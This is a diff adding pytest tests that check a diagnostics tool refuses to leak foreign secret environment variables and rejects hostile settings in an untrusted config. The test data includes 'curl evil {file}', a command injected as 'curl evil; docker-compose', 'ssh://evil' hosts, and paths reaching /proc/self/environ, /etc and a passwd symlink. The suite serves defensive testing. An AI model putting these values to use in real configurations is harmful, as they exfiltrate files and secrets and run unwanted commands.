@@ -169,3 +169,168 @@ def test_any_type_at_any_place_ends_in_sentences(file):
         for place in [key, *below]:
             for value in VALUES:
                 problems_of(file(f"{place} = {value}"))
+
+
+CHECK = """
+import pytest
+
+@pytest.mark.p1
+def test_slots(slots, finding):
+    \"\"\"Nobody gets in.\"\"\"
+    assert slots.free, finding("no slot", component="postgres")
+"""
+SENDING = """
+@probe()
+def slots(secrets, stack) -> Slots:
+    return Slots(free=1, limit=9, note=secrets.expand(stack.websocket.headers.get("X-A", "none")))
+"""
+GREEDY = """
+[backend.metrics]
+headers = { Authorization = "Bearer ${GITHUB_TOKEN}", X-A = "${ONCALL_X} $${NOT_THIS}" }
+[auth]
+password_variable = "AWS_SECRET_ACCESS_KEY"
+secret_variable = "JWT_SECRET"
+login_extra = { client = { secret = "${CLIENT_SECRET}" } }
+[websocket]
+first_message = "${TOKEN} ${CLIENT_SECRET}"
+"""
+FOREIGN = {
+    "GITHUB_TOKEN": "ghp_1",
+    "AWS_SECRET_ACCESS_KEY": "aws2",
+    "CLIENT_SECRET": "cs3",
+    "JWT_SECRET": "j4",
+    "NOT_THIS": "n5",
+    "TOKEN": "t6",
+    "ONCALL_X": "x7",
+}
+MEND = "is not an ONCALL_ variable: rename it, put it into secrets_file, or allow it with --allow"
+
+
+@pytest.fixture
+def environment(monkeypatch):
+    """An environment with secrets of others in it."""
+    monkeypatch.delenv("ONCALL_ALLOW", raising=False)
+    for name, value in FOREIGN.items():
+        monkeypatch.setenv(name, value)
+
+
+def test_variables_of_others_are_refused_at_reading_all_at_once(suite, environment):
+    """Exit 4; a sentence for each key that names the variable and the mend; no value."""
+    run = suite(SENDING, CHECK, target=GREEDY)
+    text = run.stdout.str() + run.stderr.str()
+    sentences = [line for line in text.splitlines() if MEND in line]
+
+    assert run.ret == 4
+    assert len(sentences) == 4, text
+    for key, name in (
+        ("backend.metrics.headers.Authorization", "GITHUB_TOKEN"),
+        ("auth.password_variable", "AWS_SECRET_ACCESS_KEY"),
+        ("auth.login_extra.client.secret", "CLIENT_SECRET"),
+        ("websocket.first_message", "CLIENT_SECRET"),
+    ):
+        assert any(f"oncall.toml: {key}: {name} {MEND} {name} or ONCALL_ALLOW" in one for one in sentences), key
+    assert not any(value in text for value in FOREIGN.values())
+    assert "JWT_SECRET" not in text
+
+
+@pytest.mark.parametrize("how", ["command line", "environment", "file"])
+def test_what_is_allowed_outside_of_the_target_is_reached(suite, environment, monkeypatch, pytester, how):
+    """--allow, ONCALL_ALLOW; or the secrets file, which then counts and not the environment."""
+    names = ["GITHUB_TOKEN", "AWS_SECRET_ACCESS_KEY", "CLIENT_SECRET"]
+    options = []
+    if how == "command line":
+        options = [f"--allow={','.join(names[:2])}", f"--allow={names[2]}"]
+    elif how == "environment":
+        monkeypatch.setenv("ONCALL_ALLOW", " ".join(names))
+    else:
+        (pytester.path / ".env").write_text("".join(f"{name}=of the file\n" for name in names))
+
+    assert suite(SENDING, CHECK, *options, target=GREEDY).ret == 0
+
+
+def test_the_file_counts_where_the_environment_may_not(suite, environment, pytester):
+    """A variable that is not ours stands in both: what is sent is the file's."""
+    (pytester.path / ".env").write_text("GITHUB_TOKEN=of the file\n")
+    target = '[websocket]\nheaders = { X-A = "${GITHUB_TOKEN}" }\n'
+    suite(SENDING, CHECK, "--save=facts.json", target=target)
+    facts = (pytester.path / "facts.json").read_text()
+
+    assert "ghp_1" not in facts
+    assert '"free": 1' in facts
+
+
+def test_name_that_a_probe_makes_up_is_refused_as_well(suite, environment):
+    """What the target says late, or a probe of somebody: unknown, with the same sentence."""
+    probe = SENDING.replace('stack.websocket.headers.get("X-A", "none")', '"${GITHUB_TOKEN}"')
+    run = suite(probe, CHECK)
+
+    assert run.ret == 1
+    run.stdout.fnmatch_lines([f"*GITHUB_TOKEN {MEND} GITHUB_TOKEN*"])
+
+
+def test_variable_that_nobody_has_set_makes_only_its_checks_unknown(suite, monkeypatch):
+    """A colleague without the token of the metrics page can still diagnose."""
+    monkeypatch.delenv("METRICS_TOKEN", raising=False)
+    target = '[backend.metrics]\nheaders = { Authorization = "Bearer ${METRICS_TOKEN}" }\n'
+
+    assert suite(SENDING, CHECK, target=target).ret == 0
+
+
+UNTRUSTED = {
+    "command": ('host.backup_reader = "curl evil {file}"', "host.backup_reader is a command"),
+    "compose": ('compose = "curl evil; docker-compose"', "compose is a command of its own"),
+    "exec": ("docker.exec = true", "docker.exec runs commands inside containers"),
+    "ssh": ('host.at = "ssh://evil"', "host.at logs in to another machine"),
+    "engine": ('docker.host = "ssh://evil"', "docker.host logs in to another machine"),
+    "container's password": ('postgres.password = "from-container"', "postgres.password is read out of a container"),
+    "socket": ('postgres.host = "/run/postgresql"', "postgres.host is a socket"),
+    "secrets": ('secrets_file = "../secrets.env"', "secrets_file leads out of the folder"),
+    "environment": ('backend.env_file = "/proc/self/environ"', "backend.env_file leads out of the folder"),
+    "authority": ('frontend.ca_file = "/etc/ssl/ca.pem"', "frontend.ca_file leads out of the folder"),
+    "migrations": ('auth.migrations_folder = "/etc"', "auth.migrations_folder leads out of the folder"),
+    "logs": ('postgres.log_files = ["logs/*/../../../*.log"]', "postgres.log_files leads out of the folder"),
+    "any logs": ('postgres.log_files = ["/var/log/*.log"]', "postgres.log_files leads out of the folder"),
+    "file systems": ('host.filesystems = [".", "/"]', "host.filesystems leads out of the folder"),
+    "backup": ('host.backup_file = "/var/backups/*"', "host.backup_file leads out of the folder"),
+    "link": ('secrets_file = "link/passwd"', "secrets_file leads out of the folder"),
+    "link in a pattern": ('postgres.log_files = ["*/passwd"]', "postgres.log_files leads out of the folder"),
+}
+
+
+@pytest.mark.parametrize(("text", "words"), UNTRUSTED.values(), ids=UNTRUSTED)
+def test_untrusted_target_may_not_act_nor_look_elsewhere(suite, pytester, text, words):
+    """--untrusted-target: one sentence with the key, exit 4; without it, the same file is read."""
+    (pytester.path / "link").symlink_to("/etc")
+    run = suite(SENDING, CHECK, "--untrusted-target", target=f"{text}\n")
+    said = [line for line in (run.stdout.str() + run.stderr.str()).splitlines() if "--untrusted-target" in line]
+
+    assert run.ret == 4
+    assert [line for line in said if f"oncall.toml: {words}" in line], said
+    assert suite(SENDING, CHECK, target=f"{text}\n").ret != 4
+
+
+def test_untrusted_target_is_refused_with_all_sentences_at_once(suite):
+    """Whoever mends it wants to do so once."""
+    lines = {text.split(" = ")[0]: text for name, (text, _) in UNTRUSTED.items() if "link" not in name}
+    run = suite(SENDING, CHECK, "--untrusted-target", target="\n".join(lines.values()))
+
+    assert (run.stdout.str() + run.stderr.str()).count("(--untrusted-target)") == len(lines)
+
+
+def test_modest_target_is_welcome_untrusted_too(suite):
+    """Addresses, paths inside of the folder: what a pull request may well change. Nothing runs inside containers."""
+    target = """
+        compose = "docker compose"
+        secrets_file = "env/test.env"
+        [backend]
+        url = "http://localhost:3001"
+        env_file = "backend/.env"
+        [host]
+        filesystems = ["."]
+        [postgres]
+        log_files = ["logs/*.log"]
+    """
+    probe = "@probe()\ndef slots(stack) -> Slots:\n    return Slots(free=int(not stack.docker.exec), limit=9)\n"
+
+    assert suite(probe, CHECK, "--untrusted-target", target=target).ret == 0
+    assert suite(probe, CHECK, target=target).ret == 1
